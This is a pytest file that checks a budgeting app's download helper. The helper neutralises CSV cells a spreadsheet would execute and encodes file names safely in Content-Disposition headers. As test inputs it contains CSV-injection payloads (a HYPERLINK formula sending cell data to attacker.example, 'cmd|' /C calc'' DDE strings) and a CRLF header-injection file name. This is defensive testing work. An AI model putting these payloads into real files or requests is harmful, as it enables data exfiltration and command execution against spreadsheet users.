"""Every download is built in one place (``ui.http``): CSV cells a spreadsheet would run are
neutralised, and file names go in ``Content-Disposition`` as RFC 6266 says (issue 16,
findings 8 and 9)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from commissioning.personal_budgets import services as phb
from commissioning.ui.http import csv_response, csv_stream, download, safe_cell
from tests.integration.personal_budgets.conftest import programme  # noqa: F401

SRC = Path(__file__).resolve().parents[3] / "src" / "commissioning"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a plain negative number stays a number
        ("+5", "+5"),
        ("Shower chair", "Shower chair"),
        (-1250, -1250),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, written):
    assert safe_cell(cell) == written


def test_every_csv_and_download_in_the_source_is_built_by_the_one_helper():
    """No module writes CSV or a Content-Disposition header of its own, so the two rules above
    cover every export (69 CSV exports when the probe ran)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == SRC / "ui" / "http.py":
            continue
        text = path.read_text()
        if re.search(r"csv\.writer\(|Content-Disposition", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def test_rfc_6266_names_and_nothing_breaks_out_of_the_header():
    response = download(b"x", "text/plain", 'réunion "Q3"\r\nSet-Cookie: a=b.txt')
    header = response["Content-Disposition"]
    assert header.startswith("attachment; filename*=utf-8''")
    assert "\r" not in header and "\n" not in header and '"Q3"' not in header
    assert response["X-Content-Type-Options"] == "nosniff"
    plain = download(b"x", "text/csv", "ledger-PHB-000001.csv")
    assert plain["Content-Disposition"] == 'attachment; filename="ledger-PHB-000001.csv"'


def test_csv_writer_neutralises_every_row():
    response, writer = csv_response("x.csv")
    writer.writerow(["=1+1", 5, "-3"])
    writer.writerows([["@x"]])
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["'=1+1", "5", "-3"], ["'@x"]]


def test_a_streamed_csv_neutralises_every_row_and_names_itself_the_same_way():
    response = csv_stream("notices.csv", ["=header"], iter([["=1+1", 5, "-3"], ["@x"]]))
    assert response.streaming
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    assert rows == [["'=header"], ["'=1+1", "5", "-3"], ["'@x"]]
    assert response["Content-Disposition"] == 'attachment; filename="notices.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_statement_built_from_what_a_budget_holder_typed_carries_no_formula(client, programme):  # noqa: F811
    p = programme.other
    service = p.plans.get(status="agreed").services.first()
    phb.record_payment(
        p,
        phb.PaymentInput(
            "formula-1",
            1_000,
            "respite",
            '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            dt.date(2026, 7, 12),
            service.pk,
        ),
        programme.other_holder,
    )
    client.force_login(programme.other_holder)
    text = client.get(f"/budgets/people/{p.pk}/statements/2026-07.csv").content.decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells) and any("SUM(1+1)" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
